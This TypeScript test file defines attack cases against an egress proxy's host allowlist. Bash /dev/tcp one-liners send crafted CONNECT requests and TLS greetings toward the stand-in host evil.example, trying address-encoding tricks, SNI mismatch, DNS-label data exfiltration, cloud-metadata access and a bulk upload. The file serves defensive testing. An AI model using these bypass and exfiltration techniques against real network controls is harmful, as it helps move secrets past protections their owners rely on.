import { makeClientHello } from "../support/client-hello.ts";
import { type Attack, attacksOf } from "./attack.ts";

/** Bytes for a shell's printf. */
const shown = (bytes: Buffer | string) =>
  [...Buffer.from(bytes)].map((byte) => `\\x${byte.toString(16).padStart(2, "0")}`).join("");

const hello = (...names: string[]) => makeClientHello({ names });
const head = (target: string, headers = "") => `CONNECT ${target} HTTP/1.1\\r\\n${headers}\\r\\n`;

/** Sends a request to the proxy and, when that has answered, more; shell variables in the request are replaced. */
const send = (request: string, more: Buffer | string = "", after = "") =>
  [
    `exec 9<>/dev/tcp/127.0.0.1/$PROXY || exit 0; printf "${request}" >&9`,
    'IFS= read -r -t 5 line <&9; echo "answer: $line"; IFS= read -r -t 1 line <&9',
    `{ printf '${shown(more)}'; ${after} } >&9 2>/dev/null; IFS= read -r -t 2 line <&9; echo "then: $line"; exec 9>&-; true`,
  ].join("; ");

/**
 * Raw bytes to the proxy, from inside. registry.example may be reached at $UPSTREAM, and so may what is below
 * allowed.example; DNS says of all names that they are this machine.
 */
const requests: readonly (Omit<Parameters<typeof attacksOf>[2][number], "bare"> &
  Partial<Pick<Attack, "bare">>)[] = [
  {
    name: "a host that is not on the list",
    command: send(head("evil.example:$UPSTREAM"), hello("evil.example")),
  },
  {
    name: "a host that a header says is another",
    command: send(head("evil.example:$UPSTREAM", "Host: registry.example\\r\\n"), hello("evil.example")),
  },
  {
    name: "a host that ends like one of the list",
    command: send(head("evilregistry.example:$UPSTREAM"), hello("evilregistry.example")),
  },
  {
    name: "another port of a host of the list",
    command: send(head("registry.example:$PORT"), hello("registry.example")),
  },
  {
    name: "data in a name that DNS is asked for",
    command: send(head("c2VjcmV0.evil.example:443")),
  },
  {
    name: "a host in front of another one",
    command: send(head("registry.example@evil.example:$UPSTREAM"), hello("evil.example")),
    defence: "a strict reader of requests",
  },
  {
    name: "an address in the place of a name",
    command: send(head("127.0.0.1:$UPSTREAM"), hello("127.0.0.1")),
    defence: "names only, no addresses",
  },
  {
    name: "an address as one number",
    command: send(head("2130706433:$UPSTREAM"), hello("2130706433")),
    defence: "names only, no addresses",
  },
  {
    name: "an address in hexadecimal",
    command: send(head("0x7f.1:$UPSTREAM"), hello("0x7f.1")),
    defence: "names only, no addresses",
  },
  {
    name: "an address inside a longer one",
    command: send(head("[::ffff:127.0.0.1]:$UPSTREAM"), hello("registry.example")),
    defence: "names only, no addresses",
  },
  {
    name: "another name in the greeting",
    command: send(head("registry.example:$UPSTREAM"), hello("evil.example")),
    defence: "the same name in the greeting",
  },
  {
    name: "two names in the greeting",
    command: send(head("registry.example:$UPSTREAM"), hello("registry.example", "evil.example")),
    defence: "TLS with a name",
  },
  {
    name: "no name in the greeting",
    command: send(head("registry.example:$UPSTREAM"), makeClientHello({})),
    defence: "TLS with a name",
  },
  {
    name: "a name in the greeting that nobody can read",
    command: send(
      head("registry.example:$UPSTREAM"),
      makeClientHello({ names: ["registry.example"], extensions: [0xfe0d] }),
    ),
    defence: "no hidden name in the greeting",
  },
  {
    name: "no greeting at all",
    command: send(head("registry.example:$UPSTREAM"), "the secret\n"),
    defence: "TLS with a name",
  },
  {
    name: "a request without a tunnel",
    command: send(
      "GET http://registry.example:$UPSTREAM/?secret HTTP/1.1\\r\\nHost: registry.example\\r\\n\\r\\n",
    ),
    defence: "tunnels only",
  },
  {
    name: "this machine behind a name that a pattern allows",
    command: send(head("data.allowed.example:$UPSTREAM"), hello("data.allowed.example")),
    defence: "no private addresses behind patterns",
  },
  {
    name: "a cloud's metadata behind a name of the list",
    command: send(head("metadata.allowed.example:$UPSTREAM"), hello("metadata.allowed.example")),
    pass: /^answer: HTTP\/1\.1 403 /m,
    bare: "not run",
    defence: "no private addresses behind patterns",
  },
  {
    name: "a repository through a host of the list",
    command: send(
      head("registry.example:$UPSTREAM"),
      hello("registry.example"),
      "head -c 2000000 /dev/zero; ",
    ),
    defence: "a limit on uploads",
    mayReach: 150_000,
  },
];

export const proxy: readonly Attack[] = attacksOf(
  "proxy parsing",
  { defence: "a list of hosts for the proxy" },
  requests.map((attack) => ({ bare: "hits", network: true, ...attack })),
);
